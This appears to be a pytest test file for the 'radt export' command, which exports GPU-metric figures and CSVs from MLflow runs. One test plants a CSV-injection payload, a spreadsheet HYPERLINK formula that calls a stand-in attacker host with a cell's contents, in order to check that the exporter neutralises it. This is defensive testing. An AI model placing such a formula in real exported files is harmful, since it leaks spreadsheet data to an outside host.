"""`radt export`: valid PNG/SVG/PDF and exact CSV from radt, MLflow system-metric and radT-legacy runs,
on SQLite (the CSV on the real PostgreSQL too); the figure is the dashboard's own (app/view/views.render).

Images are drawn by kaleido in Debian's real Chromium, as a user's export would be.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import re
import struct
import xml.etree.ElementTree as ET

import pytest
import sqlalchemy as sa
from mlflow import MlflowClient

from radt import catalogue
from radt.app.export.exportoptions import ExportStyle
from radt.app.export.image import image_bytes
from radt.app.export.paper import comparison_figure, figure_for
from radt.app.export.restyle import restyle
from radt.app.exportcli import _open_store, export_parser
from radt.app.exportcli import main as export_main
from radt.app.view.views import EXPORT_BUDGET, View, metric_spec, render, save_view
from tests.support.radtproc import radt_env, run_radt
from tests.support.stores import build

# experiment, run labels in tests/support/stores.build, the metric asked for, the key each kind stored it under
KINDS = {
    "radt": ("radt-new", ["A", "B"], "cat:sm_active", "system/gpu_0_sm_active"),
    "mlflow": ("mlflow-sys", ["trial"], "cat:utilization_percentage", "system/gpu_0_utilization_percentage"),
    "radT-legacy": ("radT-legacy", ["old1", "old2"], "cat:sm_active", "DCGMI - SN Active"),
}


@pytest.fixture
def store(store_uri, snapshots):
    built = dataclasses.replace(snapshots.restore(build, store_uri), uri=store_uri)  # build()'s rows, filled once per test run
    _open_store(store_uri)
    return built


def _view(built, *kinds: str, metrics: list[str] | None = None) -> View:
    experiments = [built.experiments[KINDS[k][0]] for k in kinds]
    runs = [built.runs[label] for k in kinds for label in KINDS[k][1]]
    return View(experiments, runs, metrics or list(dict.fromkeys(KINDS[k][2] for k in kinds)))


def _stored(built, run_id: str, key: str) -> list[tuple[int, float]]:
    engine = sa.create_engine(built.uri)
    with engine.connect() as conn:
        query = sa.text("select timestamp, value, is_nan from metrics where run_uuid = :r and key = :k order by timestamp")
        rows = conn.execute(query, {"r": run_id, "k": key}).all()
    engine.dispose()
    return [(int(t), float("nan") if nan else float(v)) for t, v, nan in rows]  # MLflow stores NaN as 0 with is_nan


@pytest.mark.dialects  # the points read through each dialect's SQL
def test_csv_holds_exactly_the_selected_runs_points(store, tmp_path, capsys):
    for kind, (_exp, labels, _spec, key) in KINDS.items():
        view = _view(store, kind)
        path = tmp_path / f"{kind}.json"
        path.write_text(save_view(view))
        assert export_main(["--view", str(path), "--store", store.uri, "-o", str(tmp_path / "data.csv")]) == 0
        rows = list(csv.DictReader(io.StringIO((tmp_path / "data.csv").read_text())))
        scale = catalogue.resolve(key).scale
        for label in labels:
            run_id = store.runs[label]
            got = [(int(r["timestamp_ms"]), float(r["value"])) for r in rows if r["run_id"] == run_id and r["gpu"] == "0"]
            expected = [(t, v * scale) for t, v in _stored(store, run_id, key)]
            assert len(got) == len(expected) > 0, f"{kind} {label}: every stored point, none downsampled"
            assert [t for t, _ in got] == [t for t, _ in expected]
            assert [v for _, v in got] == pytest.approx([v for _, v in expected], nan_ok=True)
        assert {r["run_id"] for r in rows} == {store.runs[label] for label in labels}, f"{kind}: only the selected runs"
        assert "wrote" in capsys.readouterr().err
    # run A trained on two GPUs: --metric smact is both GPUs' SMACT, each point under its own GPU
    assert export_main(["--experiment", "radt-new", "--run", store.runs["A"], "--metric", "smact", "--store", store.uri, "-o", str(tmp_path / "a.csv")]) == 0
    rows = list(csv.DictReader(io.StringIO((tmp_path / "a.csv").read_text())))
    for gpu in ("0", "1"):
        got = [(int(r["timestamp_ms"]), float(r["value"])) for r in rows if r["gpu"] == gpu]
        expected = _stored(store, store.runs["A"], f"system/gpu_{gpu}_sm_active")
        assert [t for t, _ in got] == [t for t, _ in expected] and len(got) == 300, f"GPU {gpu}: every stored point"
        assert [v for _, v in got] == pytest.approx([v for _, v in expected], nan_ok=True)
    assert {r["node"] for r in rows} == {""} and {r["mig_instance"] for r in rows} == {""}
    assert (
        export_main(
            ["--experiment", "radt-new", "--run", store.runs["A"], "--metric", "smact", "--gpu", "1", "--store", store.uri, "-o", str(tmp_path / "a1.csv")]
        )
        == 0
    )
    assert {r["gpu"] for r in csv.DictReader(io.StringIO((tmp_path / "a1.csv").read_text()))} == {"1"}, "--gpu keeps only that GPU"


def test_png_svg_pdf_of_every_kind_of_run_in_one_figure(store, tmp_path):
    from pypdf import PdfReader

    view = _view(store, "radt", "mlflow", "radT-legacy", metrics=["cat:sm_active", "cat:utilization_percentage"])
    figure, missing = figure_for(view, ExportStyle(size="double-column", font_size=8, legend="top"))
    assert set(missing) == {"cat:sm_active", "cat:utilization_percentage"}, "each metric is absent from the other kinds' runs"
    names = [t.name for t in figure.data if t.showlegend is not False and (t.legend or "legend") == "legend"]
    assert sorted(names) == sorted(set(names)) and {"radT old1", "radT old2", "trial", "run A"} <= set(names), "each run once in the legend"
    key = [t.name for t in figure.data if t.legend == "legend2"]
    assert key[:2] == ["GPU 0", "GPU 1"], "the dash key says which line is which GPU"
    assert len([t for t in figure.data if t.type == "scattergl"]) == 0

    png = image_bytes(figure, "png", 150)
    assert png[:8] == b"\x89PNG\r\n\x1a\n"
    width, height = struct.unpack(">II", png[16:24])
    assert width == 7 * 150 and height == round(figure.layout.height * 150 / 96), "7 in at 150 dpi"
    phys = png.find(b"pHYs")
    assert 0 < phys < png.find(b"IDAT"), "the PNG says its resolution (LaTeX and Word placed it at 72 or 96 dpi: twice too large)"
    per_metre_x, per_metre_y, unit = struct.unpack(">IIB", png[phys + 4 : phys + 13])
    assert unit == 1 and per_metre_x == per_metre_y == round(150 / 0.0254)

    svg = image_bytes(figure, "svg", 150).decode()
    root = ET.fromstring(svg)
    assert root.tag.endswith("svg") and float(root.get("width")) == 7 * 96
    assert "radT old1" in svg and svg.count("<path") > 10 and "<image" not in svg, "vector traces, not a bitmap"

    (tmp_path / "fig.pdf").write_bytes(image_bytes(figure, "pdf", 150))
    pdf = PdfReader(tmp_path / "fig.pdf")
    assert len(pdf.pages) == 1 and float(pdf.pages[0].mediabox.width) == pytest.approx(7 * 72, abs=1)
    assert "SMACT" in pdf.pages[0].extract_text()


def test_export_takes_the_dashboards_run_filter(store, tmp_path, capsys):
    """A comparison figure of a sweep past 20 commands says to filter the runs (params.lr = '0.1'); `radt export` took no
    filter ("unrecognized arguments: --filter"). Now it takes the dashboard's syntax, and a bad one is one line."""
    out = tmp_path / "b.csv"
    common = ["--experiment", "radt-new", "--metric", "smact", "--store", store.uri, "-o", str(out)]
    assert export_main([*common, "--filter", "attributes.run_name = 'run B'"]) == 0
    assert {r["run_id"] for r in csv.DictReader(io.StringIO(out.read_text()))} == {store.runs["B"]}
    capsys.readouterr()
    assert export_main([*common, "--filter", "params.batch_size ="]) == 2
    assert capsys.readouterr().err.startswith("radt export: --filter: ")
    assert export_main([*common, "--filter", "attributes.run_name = 'run Z'"]) == 2
    assert "keeps none of the 4 runs; try it in the dashboard's filter box" in capsys.readouterr().err  # A, B, C, D (not the deleted one)


def test_the_monochrome_option_takes_the_export_panels_word_too():
    """The dashboard's export panel says "monochrome"; `radt export --monochrome` answered "unrecognized arguments"."""
    for word in ("--mono", "--monochrome"):
        assert export_parser().parse_args([word, "-o", "fig.pdf"]).mono is True
    assert export_parser().parse_args(["-o", "fig.pdf"]).mono is False


def test_export_draws_what_the_dashboard_draws_at_full_resolution_and_in_monochrome(store):
    view = _view(store, "radt")
    screen, exported = render(view), render(view, budget=EXPORT_BUDGET)
    assert [t.name for t in screen.figure.data] == [t.name for t in exported.figure.data]
    long_view = View([store.experiments["radt-new"]], [store.runs["C"]], ["cat:sm_active"])
    assert len(render(long_view).figure.data[0].x) <= 2000 < len(render(long_view, budget=EXPORT_BUDGET).figure.data[0].x) == 6000

    # monochrome: runs told apart by dash style and marker, the same in every chart
    view = _view(store, "radt", metrics=["cat:sm_active", "cat:memory_usage_megabytes"])
    figure = restyle(render(view).figure, ExportStyle(monochrome=True, size="single-column"), 2)
    lines = [t for t in figure.data if t.mode == "lines+markers"]
    by_run = {}
    for trace in lines:
        by_run.setdefault(trace.legendgroup, set()).add((trace.line.dash, trace.marker.symbol, trace.line.color))
    assert all(len(styles) == 1 for styles in by_run.values()), "a run keeps its style in every chart"
    assert len({next(iter(s)) for s in by_run.values()}) == len(by_run) >= 1
    assert all(t.line.color.startswith("#") and t.line.color[1:3] == t.line.color[3:5] for t in lines), "greys only"
    assert figure.layout.width == round(3.5 * 96)


def test_errors_say_what_to_do(store, tmp_path, capsys, monkeypatch):
    out = str(tmp_path / "x.png")
    assert export_main(["--experiment", "nope", "--store", store.uri, "-o", out]) == 2
    assert "no experiment 'nope' in this store" in capsys.readouterr().err
    empty = tmp_path / "empty.json"
    empty.write_text(json.dumps({"radt_view": 1, "exp": "", "runs": ""}))
    assert export_main(["--view", str(empty), "--store", store.uri, "-o", out]) == 2
    assert "no runs selected" in capsys.readouterr().err
    assert export_main(["--experiment", "radT-legacy", "--store", store.uri, "-o", str(tmp_path / "x.txt")]) == 2
    assert "cannot tell the format of" in capsys.readouterr().err
    monkeypatch.setenv("BROWSER_PATH", "/nonexistent/chrome")
    assert export_main(["--experiment", "radT-legacy", "--store", store.uri, "-o", out]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert err == ["radt export: BROWSER_PATH=/nonexistent/chrome is not an executable; point it at Chromium or Chrome, or unset it"]
    monkeypatch.delenv("BROWSER_PATH")
    data = tmp_path / "some.csv"
    args = ["--experiment", "radt-new", "--experiment", "mlflow-sys", "--metric", "loss", "--store", store.uri, "-o", str(data)]
    assert export_main(args) == 0
    err = capsys.readouterr().err
    assert "loss is absent from 5 run(s), exported without them: run D, run A, run B, run C, sweep" in err
    assert {r["run_name"] for r in csv.DictReader(io.StringIO(data.read_text()))} == {"trial"}


def test_an_output_that_cannot_be_written_is_one_line_before_anything_is_drawn(store, tmp_path, capsys, monkeypatch):
    """`-o /tmp/nodir/x.pdf` drew the figure (seconds of Chromium) and then ended in a FileNotFoundError traceback, exit 1;
    a folder of someone else's was a PermissionError traceback."""
    from radt.app.export import image

    drawn = []
    monkeypatch.setattr(image, "image_bytes", lambda *a, **k: drawn.append(a) or b"%PDF")
    args = ["--experiment", "radt-new", "--store", store.uri, "-o"]
    cases = {
        tmp_path
        / "nodir"
        / "x.pdf": f"radt export: the folder {tmp_path / 'nodir'} does not exist; create it (mkdir -p {tmp_path / 'nodir'}) or give a file in an existing folder",
        tmp_path: f"radt export: cannot tell the format of '{tmp_path}'; give --format png/svg/pdf/csv or an output ending in one",
    }
    folder = tmp_path / "figures.pdf"
    folder.mkdir()
    cases[folder] = f"radt export: '{folder}' is a folder; give a file in it, e.g. {folder / 'figure.pdf'}"
    locked = tmp_path / "locked"
    locked.mkdir(mode=0o500)
    if os.geteuid() != 0:  # root writes anywhere: the check is os.access's, which says so for root too
        cases[locked / "x.pdf"] = f"radt export: cannot write in {locked} (permission denied); give a file in a folder you can write"
    for output, line in cases.items():
        assert export_main([*args, str(output)]) == 2, output
        assert capsys.readouterr().err.splitlines() == [line]
    assert drawn == [], "nothing drawn for an output that cannot be written"
    # the write itself fails (the folder went away while the figure was drawn): one line, exit 1, no file half written
    gone = tmp_path / "gone"
    gone.mkdir()
    monkeypatch.setattr(image, "image_bytes", lambda *a, **k: gone.rmdir() or b"%PDF")
    assert export_main([*args, str(gone / "x.pdf")]) == 1
    err = capsys.readouterr().err.splitlines()  # after the lines that say which runs lack a metric
    assert err[-1] == f"radt export: cannot write {gone / 'x.pdf'} (No such file or directory); give another --output"
    assert "Traceback" not in "\n".join(err)
    # a good one is written whole, with no temporary file beside it
    good = tmp_path / "ok.csv"
    assert export_main([*args, str(good), "--metric", "smact"]) == 0
    assert good.read_text().startswith("run_id,") and [p.name for p in tmp_path.glob(".*tmp")] == []


# eight charts of run A: catalogue metrics and single stored series
EIGHT = ["sm_active", "system/gpu_0_sm_active", "system/gpu_1_sm_active", "memory_usage_megabytes", "system/gpu_1_memory_usage_megabytes",
         "energy_joules", "power_usage_watts", "cpu_utilization_percentage"]  # fmt: skip


def _pdf(path):
    from pypdf import PdfReader

    pdf = PdfReader(path)
    box = pdf.pages[0].mediabox
    return pdf.metadata.get("/Title"), float(box.width) / 72, float(box.height) / 72


def test_eight_metrics_fit_a_page_titled_by_the_view_with_nothing_else_on_the_terminal(store, radt_home, tmp_path):
    """`radt export` of 8 charts: a 2-column grid inside 7 × 9 in (not 7 × 18), the PDF's title the view's, one line on stderr."""
    args = ["export", "--experiment", "radt-new", "--run", store.runs["A"], *[a for m in EIGHT for a in ("--metric", m)], "-o", str(tmp_path / "eight.pdf")]
    done = run_radt(args, radt_env(radt_home, store.uri), tmp_path)
    assert done.returncode == 0, done.stderr
    assert done.stdout == "" and done.stderr.splitlines() == [f"radt export: wrote {tmp_path / 'eight.pdf'} (PDF, 1 run)"], "no browser JSON or traceback"
    title, width, height = _pdf(tmp_path / "eight.pdf")
    assert title.startswith("SMACT, SMACT (GPU 0), SMACT (GPU 1), GPU memory") and title.endswith("1 run: run A"), title
    assert "Kaleido" not in title
    assert width == pytest.approx(7.0, abs=0.01) and height <= 9.5 + 0.01, (width, height)

    figure, _missing = figure_for(View([store.experiments["radt-new"]], [store.runs["A"]], [metric_spec(m) for m in EIGHT]), ExportStyle())
    assert figure.layout.xaxis2.domain[0] > figure.layout.xaxis.domain[1], "two columns side by side"
    assert len({figure.layout[f"yaxis{i}"].domain for i in ("", 2, 3, 4, 5, 6, 7, 8)}) == 4, "four rows"

    # --height: the same command's argument, in this process (the shell's side of `radt export` is checked above)
    assert export_main([*args[1:-1], str(tmp_path / "short.pdf"), "--height", "5", "--store", store.uri]) == 0
    assert _pdf(tmp_path / "short.pdf")[2] == pytest.approx(5.0, abs=0.01), "--height in inches"


def test_comparison_figures_from_the_shell(store, radt_home, tmp_path):
    env = radt_env(radt_home, store.uri)
    done = run_radt(["export", "--experiment", "radt-new", "--figure", "bar", "--by", "workload", "--stat", "smact_mean", "-o", str(tmp_path / "bar.pdf")], env,
                    tmp_path)  # fmt: skip
    assert done.returncode == 0 and done.stdout == "", done.stderr
    title, width, height = _pdf(tmp_path / "bar.pdf")
    assert title.startswith("mean SMACT by workload (bar) · ") and width == pytest.approx(7.0, abs=0.01) and height < 9
    done = run_radt(["export", "--experiment", "radt-new", "--figure", "box", "-o", str(tmp_path / "box.csv")], env, tmp_path)
    assert done.returncode == 2 and done.stderr.strip().splitlines() == [
        "radt export: --figure box draws a PNG, SVG or PDF; give an output ending in one of those"
    ]
    done = run_radt(["export", "--experiment", "mlflow-sys", "--figure", "bar", "--stat", "normalised", "-o", str(tmp_path / "e.pdf")], env, tmp_path)
    assert done.returncode == 2 and len(done.stderr.strip().splitlines()) == 1 and "no run of these has a normalised throughput" in done.stderr, done.stderr


def test_the_legend_has_a_margin_of_its_own(store):
    """However many entries, the legend ends above the first chart's title (top) at both paper widths."""
    view = _view(store, "radt", "mlflow", "radT-legacy", metrics=["cat:sm_active", "cat:utilization_percentage", "cat:memory_usage_megabytes"])
    for size in ("single-column", "double-column"):
        figure, _missing = figure_for(view, ExportStyle(size=size, legend="top"))
        svg = image_bytes(figure, "svg", 96).decode()
        legend = re.search(r'<g class="legend"[^>]*translate\(([\d.]+),([\d.]+)\)"><rect class="bg"[^>]*height="([\d.]+)"', svg)
        titles = [float(y) for y in re.findall(r'<g class="annotation-text-g"[^>]*><g class="cursor-pointer" transform="translate\([\d.]+,([\d.]+)\)"', svg)]
        assert legend and titles, size
        assert float(legend.group(2)) + float(legend.group(3)) <= min(titles) + 0.5, (size, legend.groups(), min(titles))


def test_comparison_table_sets_collocated_workloads_against_the_same_runs_alone(store_uri, tmp_path):
    from mlflow import MlflowClient

    from radt.collectors import demo

    demo.write_demo(store_uri, minutes=2, report=lambda _line: None)
    _open_store(store_uri)
    client = MlflowClient(store_uri)
    experiment = client.get_experiment_by_name("demo: resnet50 collocation").experiment_id
    runs = client.search_runs([experiment], filter_string="tags.`radt.role` = 'run'")
    # throughput from MLflow's own view of each run: its epochs (one loss point each, logged as epochs 1..n) per hour
    per_hour = {r.info.run_name: len(client.get_metric_history(r.info.run_id, "loss")) * 3_600_000 / (r.info.end_time - r.info.start_time)
                for r in runs}  # fmt: skip
    alone = per_hour["resnet50 1A"]

    out = tmp_path / "table.csv"
    assert export_main(["--experiment", "demo: resnet50 collocation", "--table", "--store", store_uri, "-o", str(out)]) == 0
    table = list(csv.DictReader(io.StringIO(out.read_text())))
    by_run = {r["run"]: r for r in table if r["kind"] == "run"}
    assert set(by_run) == set(per_hour)
    for name, expected in per_hour.items():
        assert float(by_run[name]["steps_per_h"]) == pytest.approx(expected, rel=1e-3), name
    assert float(by_run["resnet50 1A"]["normalised"]) == 1, "the only run alone of its command: its own baseline, as the figure draws it (issue 52)"
    assert float(by_run["resnet50 2A"]["normalised"]) == pytest.approx(per_hour["resnet50 2A"] / alone, rel=1e-3)
    assert by_run["resnet50 2A"]["alone_runs"] == "1" and float(by_run["resnet50 2A"]["alone_steps_per_h"]) == pytest.approx(alone, rel=1e-3)
    workloads = {r["workload"]: r for r in table if r["kind"] == "workload"}
    assert set(workloads) == {"workload 2 same GPU", "workload 3 MPS", "workload 4 MIG 3g.40gb"}
    mps = workloads["workload 3 MPS"]
    assert float(mps["steps_per_h"]) == pytest.approx(per_hour["resnet50 3A"] + per_hour["resnet50 3B"], rel=1e-3)
    assert float(mps["normalised"]) == pytest.approx((per_hour["resnet50 3A"] + per_hour["resnet50 3B"]) / alone, rel=1e-3)
    assert float(by_run["resnet50 2A"]["smocc_mean"]) > 0 and float(by_run["resnet50 2A"]["smact_p95"]) >= float(by_run["resnet50 2A"]["smact_mean"])


def _write_demo(uri: str) -> None:
    from radt.collectors import demo

    demo.write_demo(uri, minutes=2, report=lambda _line: None)


def test_the_collocation_figure_is_one_command(snapshots, empty_sqlite, radt_home, tmp_path):
    """The seed papers' figure from the demo: per collocation method, throughput ÷ the same command alone (alone = 1) and
    the GPU's SMACT, which sharing raises (both runs record the whole GPU) while each run's throughput drops."""
    uri = empty_sqlite(tmp_path / "demo.db")
    snapshots.restore(_write_demo, uri)
    out = tmp_path / "collocation.svg"
    done = run_radt(["export", "--experiment", "demo: resnet50 collocation", "--figure", "collocation", "-o", str(out)], radt_env(radt_home, uri), tmp_path)
    assert done.returncode == 0 and done.stdout == "", done.stderr
    svg = out.read_text()
    assert svg.count('class="trace bars"') == 2 and svg.count('class="point"') == 8, "two panels, a bar per method in each"
    assert "throughput ÷ same command alone" in svg and "GPU SMACT" in svg and ">train_imagenet.py --model<" in svg, "its panels and its command"

    _open_store(uri)
    client = MlflowClient(uri)
    experiment = client.get_experiment_by_name("demo: resnet50 collocation").experiment_id
    runs = [r.info.run_id for r in client.search_runs([experiment], filter_string="tags.`radt.role` = 'run'")]
    figure = comparison_figure(View([experiment], runs), ExportStyle(), "collocation")
    throughput, smact = ({b: y for b, y in zip(t.x, t.y, strict=True)} for t in figure.data)
    assert list(throughput) == ["alone", "same GPU", "MPS", "MIG"] and throughput["alone"] == pytest.approx(1.0)
    assert all(throughput[m] < 1 for m in ("same GPU", "MPS", "MIG")) and throughput["MPS"] > throughput["same GPU"], throughput
    assert smact["MPS"] > smact["same GPU"] > smact["alone"], f"a shared GPU is busier than with one run alone: {smact}"


def test_a_run_name_a_spreadsheet_would_run_is_written_as_text(store, tmp_path):
    """Anyone who can write to the shared store names runs: a run named =HYPERLINK("http://evil.example/?"&A1,"open") was
    written as that into the table and data CSVs, which a colleague's spreadsheet runs as a formula (OWASP's CSV
    injection). Such a cell begins with a ' now; other names, and numbers, are as they were."""
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    MlflowClient(store.uri).update_run(store.runs["A"], name=hostile)
    _open_store(store.uri)  # the run list as the store holds it now
    table, points = tmp_path / "table.csv", tmp_path / "points.csv"
    for out, extra in ((table, ["--table"]), (points, ["--metric", "smact"])):
        assert export_main(["--experiment", "radt-new", *extra, "--store", store.uri, "-o", str(out)]) == 0
    rows = list(csv.DictReader(io.StringIO(table.read_text())))
    names = {r["run"] for r in rows if r["kind"] == "run"}
    assert "'" + hostile in names and hostile not in names and "run B" in names, names
    cells = list(csv.DictReader(io.StringIO(points.read_text())))
    assert {r["run_name"] for r in cells if r["run_id"] == store.runs["A"]} == {"'" + hostile}
    assert all(float(r["value"]) == float(r["value"]) or r["value"] == "nan" for r in cells), "values are numbers as before"


# a fresh interpreter runs `radt export ARGS` in process and says what it imported (radt.cli.main is the console script's)
EXPORT_PROBE = (
    "import json, sys\nfrom radt.cli import main\ntry:\n    code = main(sys.argv[1:])\nexcept SystemExit as exit:\n    code = exit.code\n"
    "print(json.dumps({'code': code, 'loaded': sorted(m for m in ('pandas', 'plotly', 'dash', 'flask', 'sqlalchemy', 'mlflow') if m in sys.modules)}))"
)  # argparse's own answers (--help, an unknown option) end in SystemExit


@pytest.mark.parametrize(
    "args",
    [
        ["--help"],
        ["-o", "out.png", "--experiment", "x", "--dpi", "3000"],
        ["-o", "out.png", "--experiment", "x", "--font-size", "nan"],
        ["-o", "out.png", "--experiment", "x", "--bogus"],
        ["-o", "out.xyz", "--experiment", "x"],
        ["-o", "out.png"],
    ],
    ids=["help", "dpi", "font", "unknown-option", "format", "nothing-picked"],
)
def test_a_mistake_or_help_is_answered_before_the_plotting_libraries_are_imported(args, radt_home, tmp_path):
    """`radt export --help` or a typo took 0.8 s of CPU: the parser's choices came from the figure modules, which import
    pandas and Plotly. They answer from app/export/exportoptions now; nothing is written."""
    import subprocess
    import sys

    done = subprocess.run(
        [sys.executable, "-c", EXPORT_PROBE, "export", *args], env=radt_env(radt_home), cwd=tmp_path, capture_output=True, text=True, timeout=60
    )
    said = json.loads(done.stdout.strip().splitlines()[-1])
    assert said["loaded"] == [], (said, done.stderr)
    if args == ["--help"]:
        assert said["code"] == 0 and "--dpi" in done.stdout, done.stderr
        return
    assert said["code"] == 2, (said, done.stderr)
    assert len(done.stderr.strip().splitlines()) == 1 and done.stderr.startswith("radt export: "), done.stderr
    assert not [p.name for p in tmp_path.iterdir() if p.name.startswith("out")]


def test_a_workload_name_of_thousands_of_characters_stays_under_its_bar_and_the_figure_on_its_page():
    """A CSV's workload name is the user's: 5,000 characters stood upright under its bar asked for a bottom margin of
    28,829 px in an 864 px figure (no plot left; on the page, a 64 px plot). The name is cut with '…' under its bar, whole
    on hover."""
    import pandas as pd

    from radt.app.export.aggregates import bar_figure
    from radt.app.export.exportoptions import ExportStyle
    from radt.app.export.restyle import restyle

    long = "w" * 5000
    table = pd.DataFrame(
        {"kind": "run", "experiment_id": "1", "command": "train.py", "run": [f"r{i}" for i in range(8)], "run_id": [f"id{i}" for i in range(8)],
         "workload": [long if i == 0 else f"workload {i} with a long enough name" for i in range(8)], "smact_mean": [0.1 * i for i in range(8)]}
    )  # fmt: skip
    screen = bar_figure(table, "smact_mean", "workload")  # the page's: its plot was squeezed to 64 px by that one name
    assert max(len(t) for t in screen.layout.xaxis.ticktext) <= 40 and long in screen.layout.xaxis.tickvals, "cut under the bar, whole on hover"
    printed = restyle(screen, ExportStyle(size="single-column"), 1)
    plot_px = printed.layout.height - printed.layout.margin.t - printed.layout.margin.b
    assert printed.layout.height <= 9.0 * 96 and plot_px >= 1.2 * 96, (printed.layout.height, printed.layout.margin)
    ticks = list(printed.layout.xaxis.ticktext)
    (cut,) = [t for t in ticks if t.startswith("wwww")]
    assert max(len(t) for t in ticks) <= 48 and cut.endswith("…") and "workload 1 with a long enough name" in ticks, ticks


def test_a_run_name_of_hundreds_of_characters_is_cut_in_the_exported_legend():
    """A run's name is the user's: 300 characters with no space made the legend's entries 300 characters wide, one to a
    row, the name running past the figure's edge. An exported legend entry is cut at 60 characters with '…'."""
    import plotly.graph_objects as go

    from radt.app.export.exportoptions import ExportStyle
    from radt.app.export.restyle import legend_names, restyle

    long = "r" * 299 + "&"
    figure = go.Figure([go.Scatter(x=[0, 1], y=[0, 1], name=name, legendgroup=name) for name in (long.replace("&", "&amp;"), "short run")])
    for legend in ("top", "right"):
        names = legend_names(restyle(figure, ExportStyle(size="single-column", legend=legend), 1))
        assert names[1] == "short run" and len(names[0]) <= 60 and names[0].endswith("…"), (legend, names)
